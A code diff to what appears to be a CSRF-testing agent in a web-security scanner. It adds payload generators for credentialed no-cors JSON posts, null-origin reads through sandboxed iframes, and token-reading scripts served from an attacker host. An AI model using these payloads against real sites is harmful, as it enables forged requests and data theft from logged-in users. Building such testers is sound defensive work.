@@ -17,7 +17,8 @@ class CsrfFetch final : public Agent {
         if (evil == nullptr) evil = any_host(target);
         std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
         if (evil == nullptr || endpoints.empty()) return;
-        std::vector<OwnForm> const own = look_at_forms(target, endpoints, As::Attacker);
+        std::vector<OwnForm> own = look_at_forms(target, endpoints, As::Attacker);
+        look_for_telling_script(target, own.front());
         std::vector<std::string> scripts;
         for (std::size_t i = 0; i < endpoints.size(); ++i)
             add_scripts(scripts, target, *endpoints[i], own[i]);
@@ -25,6 +26,7 @@ class CsrfFetch final : public Agent {
         target.wait(std::chrono::minutes(3));
         Lure lure(target, *evil);
         for (std::string const& each : scripts) lure.show("<script>" + each + "</script>");
+        read_from_nowhere(target, *endpoints.front(), own.front());
         // Who may read is perhaps told by the name alone.
         for (OwnHost* host : target.hosts())
             if (host != evil && may_read(own.front()))
@@ -52,8 +54,25 @@ class CsrfFetch final : public Agent {
         if (is_json(endpoint))
             // To the browser this is text/plain, and to a careless server JSON (MIME Sniffing
             // Standard, "essence").
-            to.push_back(simple_fetch(simple, json, "text/plain;application/json"));
-        if (may_read(own)) to.push_back(act_script(target, endpoint, own));
+            // Bytes have no type at all.
+            to.push_back(simple_fetch(simple, json, "text/plain;application/json") + ";" +
+                         typeless_fetch(simple, json));
+        if (!may_read(own)) return;
+        to.push_back(act_script(target, endpoint, own));
+        if (own.script.empty() || own.told == OwnForm::Told::InScript) return;
+        OwnForm in_page = own;
+        in_page.script.clear();
+        to.push_back(act_script(target, endpoint, in_page));
+    }
+
+    // The origin of a sandboxed frame is "null", which is allowed to read by whoever thinks that it
+    // is nobody.
+    static void read_from_nowhere(Target& target, Endpoint const& endpoint, OwnForm const& own) {
+        OwnHost* const host = foreign_host(target);
+        if (host == nullptr || !may_read(own)) return;
+        std::string const html = "<script>" + act_script(target, endpoint, own) + "</script>";
+        Lure(target, *host)
+            .show("<iframe sandbox=\"allow-scripts\" srcdoc=" + in_quotes(html) + "></iframe>");
     }
 
     static bool may_read(OwnForm const& own) {
@@ -63,6 +82,13 @@ class CsrfFetch final : public Agent {
     static bool is_json(Endpoint const& endpoint) {
         return !endpoint.parameters.empty() &&
                endpoint.parameters.front().place == Place::JsonField;
+    }
+
+    static std::string typeless_fetch(std::string const& address, std::string const& body) {
+        return "fetch(" + script_string(address) +
+               ",{method:\"POST\",mode:\"no-cors\",credentials:\"include\",body:"
+               "new TextEncoder().encode(" +
+               script_string(body) + ")})";
     }
 
     // A body of type text is sent as text/plain. Accept may be said without a question, too: who
